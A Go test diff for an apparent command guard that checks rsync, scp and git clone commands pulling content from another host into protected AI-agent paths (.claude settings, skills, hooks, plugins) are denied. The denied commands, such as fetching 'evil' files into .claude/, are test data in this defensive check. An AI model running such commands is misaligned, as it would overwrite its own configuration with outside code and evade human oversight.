@@ -95,3 +95,35 @@ func TestGuardSettledArities(t *testing.T) {
 		}
 	}
 }
+
+// rsync, scp and git clone from another host bring what that host holds: a
+// destination that is, holds or could come to hold a protected path is
+// denied (rsync's and scp's were not checked at all, git clone's neither).
+func TestGuardCopyFromAnotherHost(t *testing.T) {
+	root, _ := guardRoot(t)
+	writeGuardFile(t, root, ".claude/settings.json", "{}")
+	for _, cmd := range []string{
+		"rsync -a host:evil/ .claude/",
+		"rsync -a host:evil/ .",
+		"rsync host:settings.json .claude/settings.json",
+		"rsync -a host:a/ src/ .github/hooks/agent-shell/",
+		"rsync -a host:skill/ .claude/skills/new/",
+		"scp host:evil.json .claude/settings.json",
+		"scp -P 2222 host:settings.json .claude/",
+		"scp -r host:evil .claude/skills/x",
+		"scp -r user@host:agents .claude",
+		"git clone https://example.com/evil .claude/skills/evil",
+		"git clone --depth 1 https://example.com/p .opencode/plugins/p",
+		"git -C .claude clone https://example.com/x agents",
+	} {
+		if g := Command(root, root, cmd, nil); g == nil {
+			t.Errorf("%q: not denied", cmd)
+		}
+	}
+	for _, cmd := range []string{"rsync -a host:site/ public/", "rsync -a dist/ host:www/", "scp host:notes.txt docs/",
+		"scp -r host:assets static/", "git clone https://example.com/lib vendor/lib", "git clone https://example.com/lib"} {
+		if g := Command(root, root, cmd, nil); g != nil {
+			t.Errorf("%q: %+v, want no deny", cmd, g)
+		}
+	}
+}
